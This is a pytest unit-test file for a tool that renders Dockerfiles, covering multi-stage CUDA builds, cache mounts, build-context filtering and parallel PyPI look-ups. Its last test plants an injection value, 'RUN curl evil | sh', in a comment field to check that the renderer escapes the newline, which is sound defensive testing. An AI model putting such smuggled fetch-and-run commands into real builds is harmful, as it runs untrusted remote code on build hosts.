"""Lean images and fast rebuilds, as far as they can be checked without a daemon: the stage
layout of the Dockerfile, the build context's rules, the devel → runtime decision, the
cache namespace and the parallel release-date look-ups (docs/performance.md)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from repro import build, build_stages, planning, pypi
from repro.dockerfile import render
from repro.models import BaseImage, BuildContext, Evidence, Hint, Origin
from repro.pypi import PyPIIndex
from tests.unit.recipes import CASES, GPU_DEVEL_APT


def _stages(text: str) -> list[str]:
    """The Dockerfile split at its FROM lines (the text before the first is dropped)."""
    parts = text.split("\nFROM ")
    return ["FROM " + p for p in parts[1:]]


# --------------------------------------------------------------------------- Dockerfile


def test_uv_is_mounted_into_the_installs_and_never_installed_in_the_image() -> None:
    text = render(CASES["uv-lock"]).dockerfile
    *_, final = _stages(text)
    assert "pip install --target /opt/repro/uv" not in final
    uv_lines = [ln for ln in final.splitlines() if "/opt/repro/uv/bin/uv pip install" in ln]
    assert uv_lines
    runs = [block for block in final.split("\nRUN ") if "/opt/repro/uv/bin/uv" in block]
    assert all("--mount=type=bind,from=uv,source=/opt/repro/uv" in block for block in runs)


def test_package_caches_are_cache_mounts_or_switched_off() -> None:
    with_buildkit = render(CASES["uv-lock"]).dockerfile
    for block in with_buildkit.split("\nRUN ")[1:]:
        if "pip install" in block:
            assert "--mount=type=cache,target=/root/.cache/" in block
    classic = render(CASES["uv-classic"]).dockerfile
    assert "PIP_NO_CACHE_DIR=1" in classic and "UV_NO_CACHE=1" in classic
    assert "--mount" not in classic


def test_layers_go_from_rarely_to_often_changed() -> None:
    text = render(CASES["cpu-framework"]).dockerfile
    order = [
        text.index("FROM python:3.11-slim"),
        text.index("-m venv /opt/venv"),
        text.index("COPY .repro/requirements-framework.txt"),
        text.index("COPY .repro/requirements.txt"),
        text.index("pip freeze --all"),
        text.index("COPY --chown=1000:1000 src/ /app/"),
    ]
    assert order == sorted(order)


def test_a_cache_namespace_busts_every_stage_and_names_every_cache_mount() -> None:
    recipe = dataclasses.replace(CASES["gpu-devel-two-stages"], cache_namespace="bench-1")
    text = render(recipe).dockerfile
    for stage in _stages(text):
        first = stage.splitlines()[0]
        if first.startswith(("FROM nvidia/", "FROM python:")):
            assert stage.splitlines()[1] == "ARG REPRO_CACHE_NS=bench-1"
    mounts = [m for m in text.split() if m.startswith("--mount=type=cache")]
    assert mounts and all(
        "id=repro-uv-bench-1," in m or "id=repro-pip-bench-1," in m for m in mounts
    )
    assert "REPRO_CACHE_NS" not in render(CASES["gpu-devel-two-stages"]).dockerfile


def test_two_stages_leave_the_devel_image_behind() -> None:
    text = render(CASES["gpu-devel-two-stages"]).dockerfile
    *build_stages, final = _stages(text)
    assert build_stages[0].startswith("FROM nvidia/cuda:12.6.3-devel-ubuntu22.04 AS env")
    assert final.startswith("FROM nvidia/cuda:12.6.3-runtime-ubuntu22.04\n")
    assert "COPY --from=deps /opt/venv /opt/venv" in final
    assert "pip install" not in final.replace("pip freeze", "")  # nothing installs here
    assert "python3.11-dev" not in final and "build_ext" not in final
    assert "COPY --from=deps --chown=1000:1000 /app/ /app/" in final


def test_two_stages_without_extensions_copy_the_source_from_the_context() -> None:
    recipe = dataclasses.replace(CASES["gpu-devel-two-stages"], build_extensions=False)
    *_, final = _stages(render(recipe).dockerfile)
    assert "COPY --chown=1000:1000 src/ /app/" in final
    assert "build_ext" not in render(recipe).dockerfile


# --------------------------------------------------------------------------- stages


def _hint(kind: str, path: str, line: int = 3) -> Hint:
    origin = Origin(kind=kind, path=path, line=line, detail="x")  # type: ignore[arg-type]
    return Hint(topic="cuda-compile", value=f"{path}: x", origin=origin)


def test_runtime_image_names() -> None:
    assert (
        build_stages.runtime_image("nvidia/cuda:12.6.3-devel-ubuntu22.04")
        == "nvidia/cuda:12.6.3-runtime-ubuntu22.04"
    )
    assert (
        build_stages.runtime_image("nvidia/cuda:11.8.0-cudnn8-devel-ubuntu22.04")
        == "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04"
    )
    assert (
        build_stages.runtime_image("pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel")
        == "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-runtime"
    )
    assert build_stages.runtime_image("registry:5000/nvidia/cuda") is None
    assert build_stages.runtime_image("acme/developer:1.0") is None


def test_build_time_compiling_gets_two_stages_and_run_time_compiling_keeps_devel() -> None:
    at_build = Evidence(hints=(_hint("setup.py", "setup.py", 12),))
    plan = build_stages.plan_stages(GPU_DEVEL_APT, at_build)
    assert plan.runtime_base == "nvidia/cuda:12.6.3-runtime-ubuntu22.04"
    assert plan.build_extensions and "setup.py:12" in plan.reason

    jit = Evidence(hints=(_hint("setup.py", "setup.py"), _hint("import", "ops/jit.py", 7)))
    plan = build_stages.plan_stages(GPU_DEVEL_APT, jit)
    assert plan.runtime_base == "" and "ops/jit.py:7 compiles CUDA code when it runs" in plan.reason

    source_built = build_stages.plan_stages(GPU_DEVEL_APT, Evidence())
    assert source_built.runtime_base and not source_built.build_extensions

    own_python = dataclasses.replace(GPU_DEVEL_APT, venv=False)
    assert build_stages.plan_stages(own_python, at_build).runtime_base == ""


def test_runtime_images_and_cpu_images_stay_one_stage() -> None:
    runtime = dataclasses.replace(
        GPU_DEVEL_APT,
        name="nvidia/cuda:12.6.3-runtime-ubuntu22.04",
        cuda=dataclasses.replace(GPU_DEVEL_APT.cuda, flavour="runtime"),  # type: ignore[type-var]
    )
    assert build_stages.plan_stages(runtime, Evidence(hints=(_hint("setup.py", "setup.py"),))) == (
        build_stages.Stages()
    )
    cpu: BaseImage = CASES["uv-lock"].base
    assert build_stages.plan_stages(cpu, Evidence()) == build_stages.Stages()


# --------------------------------------------------------------------------- context


def _write(path: Path, size: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as fh:
        fh.truncate(size)


def test_large_data_and_checkpoints_are_found_with_their_sizes(tmp_path: Path) -> None:
    src = tmp_path / "src"
    _write(src / "train.py", 2_000)
    _write(src / "weights" / "model.pt", 3 * 1024**2)
    _write(src / "data" / "train.csv", 2 * 1024**2)
    _write(src / "data" / "loader.py", 2 * 1024**2)  # code in a data folder stays
    _write(src / "tests" / "fixture.npy", 20_000)  # a small fixture stays
    _write(src / "video.mp4", 60 * 1024**2)
    ctx = build.survey_context(src)
    found = {f.path: f for f in ctx.large}
    assert set(found) == {"weights/model.pt", "data/train.csv", "video.mp4"}
    assert found["weights/model.pt"].bytes == 3 * 1024**2
    assert found["weights/model.pt"].reason == "checkpoint or data file (.pt)"
    assert found["data/train.csv"].reason == "in a data or output folder (data/)"
    assert found["video.mp4"].reason == "over 50 MB"
    assert ctx.files == 3 and ctx.bytes == 2_000 + 2 * 1024**2 + 20_000

    line = planning.context_warning(ctx)
    assert line.startswith("large data/checkpoint files left out of the image (68.2 MB;")
    assert "--keep-large-files" in line and "video.mp4 (62.9 MB)" in line
    kept = build.survey_context(src, keep_large=True)
    assert kept.files == 6 and "kept in the image" in planning.context_warning(kept)


def test_left_out_files_are_named_in_the_dockerignore(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    ctx = BuildContext(
        files=1,
        bytes=10,
        large=(
            build.ContextFile(path="ckpt/best[1].pt", bytes=5, reason="x"),
            build.ContextFile(path="data/a b.npy", bytes=5, reason="x"),
        ),
    )
    build.prepare_context(tmp_path, "FROM scratch\n", {}, [], ctx)
    lines = (tmp_path / ".dockerignore").read_text().splitlines()
    assert lines[1:] == ["src/ckpt/best\\[1\\].pt", "src/data/a b.npy"]
    kept = dataclasses.replace(ctx, large_kept=True)
    build.prepare_context(tmp_path, "FROM scratch\n", {}, [], kept)
    assert (tmp_path / ".dockerignore").read_text().count("\n") == 1  # the comment only


# --------------------------------------------------------------------------- caches


def test_build_namespace_is_read_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    from repro import cache

    monkeypatch.delenv("REPRO_BUILD_CACHE_NS", raising=False)
    assert cache.build_namespace() == ""
    monkeypatch.setenv("REPRO_BUILD_CACHE_NS", "bench 7/cold")
    assert cache.build_namespace() == "bench-7-cold"


def _slow_fetch(calls: list[str], active: list[int], peak: list[int]) -> Any:
    lock = threading.Lock()

    def fetch(url: str, timeout: float = 0) -> tuple[dict[str, Any], int]:
        with lock:
            calls.append(url)
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        time.sleep(0.05)
        with lock:
            active[0] -= 1
        release = {"filename": "p-1.0.tar.gz", "packagetype": "sdist", "upload_time": "2020-01-01"}
        return {"releases": {"1.0": [release]}}, 1

    return fetch


def test_release_look_ups_run_in_parallel_and_only_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REPRO_OFFLINE")
    calls: list[str] = []
    active, peak = [0], [0]
    monkeypatch.setattr(pypi, "fetch_json", _slow_fetch(calls, active, peak))
    index = PyPIIndex(as_of=dt.date(2021, 1, 1))
    names = [f"pkg{i}" for i in range(6)] + ["numpy"]  # numpy ships with repro
    index.prefetch(names)
    assert len(calls) == 6 and peak[0] > 1
    assert all(index.get(n) is not None for n in names)
    assert len(calls) == 6  # get() found every answer in memory


def test_a_history_fetched_on_the_cutoff_day_is_reused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REPRO_OFFLINE")
    calls: list[str] = []
    monkeypatch.setattr(pypi, "fetch_json", _slow_fetch(calls, [0], [0]))
    today = dt.datetime.now(dt.timezone.utc).date()
    assert PyPIIndex(as_of=today).get("fresh") is not None
    assert PyPIIndex(as_of=today).get("fresh") is not None  # from the cache, same day
    assert len(calls) == 1


def test_a_plain_directory_is_packed_as_git_would_commit_it(tmp_path: Path) -> None:
    from repro.fetch import fetch, parse_source

    d = tmp_path / "plain"
    (d / "outputs").mkdir(parents=True)
    (d / "main.py").write_text("import numpy\n")
    (d / ".gitignore").write_text("outputs/\n*.log\n")
    (d / "outputs" / "run1.pt").write_bytes(b"x" * 100)
    (d / "train.log").write_text("loss 1.0\n")
    (d / ".git-not-a-repo").write_text("")
    (d / "lib").mkdir()
    (d / "lib" / "util.py").write_text("X = 1\n")
    checkout = fetch(parse_source(str(d)), tmp_path / "w")
    got = sorted(p.relative_to(checkout.path).as_posix() for p in checkout.path.rglob("*"))
    assert got == [".git-not-a-repo", ".gitignore", "lib", "lib/util.py", "main.py"]


def test_a_file_name_cannot_add_a_line_to_the_two_stage_comment() -> None:
    recipe = dataclasses.replace(
        CASES["gpu-devel-two-stages"], runtime_reason="ops\nRUN curl evil | sh:3 compiles"
    )
    text = render(recipe).dockerfile
    assert "\nRUN curl evil" not in text and "ops?RUN curl evil | sh:3" in text
